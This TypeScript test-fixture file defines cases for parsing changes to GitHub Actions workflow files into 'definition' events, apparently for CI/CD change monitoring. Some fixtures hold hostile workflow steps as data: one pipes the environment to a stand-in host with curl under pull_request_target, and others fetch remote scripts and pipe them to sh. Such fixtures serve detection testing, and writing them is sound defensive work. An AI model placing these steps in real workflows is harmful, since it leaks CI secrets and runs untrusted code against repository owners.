// Cases of github.definition: workflows as they were and as they are.
import type { SourceCase } from '../../source-case.ts';

const WORKFLOWS = 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax';
const CONTENTS = 'https://docs.github.com/en/rest/repos/contents#get-repository-content';
const [BASE, SHA] = ['7638417db6d59f3c431d3e1f261cc637155684cd', '6dcb09b5b57875f334f61aebed695e2e4193db5e'];
const PATH = '.github/workflows/ci.yml';

const job = 'jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n';
const place = {
  repository: 'acme/shop',
  path: PATH,
  revision: SHA,
  base: BASE,
  branch: 'main',
  changed_at: '2026-03-02T10:00:00.000Z',
};
const actor = { name: 'mona', id: '7' };

export const cases: readonly SourceCase[] = [
  {
    name: 'A workflow listens to strangers’ pull requests, and sends the environment away',
    reference: WORKFLOWS,
    record: {
      body: {
        ...place,
        actor,
        before: `on: push\n${job}`,
        after: `on: pull_request_target\n${job}      - run: env | curl -d @- https://collect.example\n`,
      },
    },
    drafts: [
      {
        kind: 'definition',
        native_type: 'definition.changed',
        natural_id: `acme/shop ${PATH} ${SHA}`,
        observed_at: Date.parse('2026-03-02T10:00:00Z'),
        organization: 'acme',
        actor: { name: 'mona', id: '7' },
        vcs: {
          repository: { name: 'acme/shop' },
          ref: { head: { name: 'main', revision: SHA }, base: { revision: BASE } },
        },
        cicd: { pipeline: { definition: PATH } },
        detail: { system: 'github', path: PATH, change: 'changed' },
      },
    ],
  },
  {
    name: 'A workflow appears',
    reference: CONTENTS,
    record: { body: { ...place, actor, after: `on: push\n${job}` } },
    drafts: [{ kind: 'definition', detail: { change: 'added', path: PATH } }],
  },
  {
    name: 'A workflow goes',
    reference: CONTENTS,
    record: { body: { ...place, before: `on: push\n${job}` } },
    drafts: [{ kind: 'definition', native_type: 'definition.removed', detail: { change: 'removed' } }],
  },
  {
    name: 'A composite action of the repository runs something else',
    reference: WORKFLOWS,
    record: {
      body: {
        ...place,
        path: '.github/actions/setup/action.yml',
        before: 'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n',
        after: 'runs:\n  using: composite\n  steps:\n    - run: curl https://get.example/x | sh\n      shell: bash\n',
      },
    },
    drafts: [{ kind: 'definition', detail: { path: '.github/actions/setup/action.yml', change: 'changed' } }],
  },
  {
    name: 'What cannot be read as a workflow is read line by line',
    reference: WORKFLOWS,
    record: {
      body: {
        ...place,
        before: `on: push\n${job}`,
        after: 'on: [push\njobs: {{{\n  run: curl https://x.example | sh\n',
      },
    },
    drafts: [{ kind: 'definition', detail: { change: 'changed' } }],
  },
];
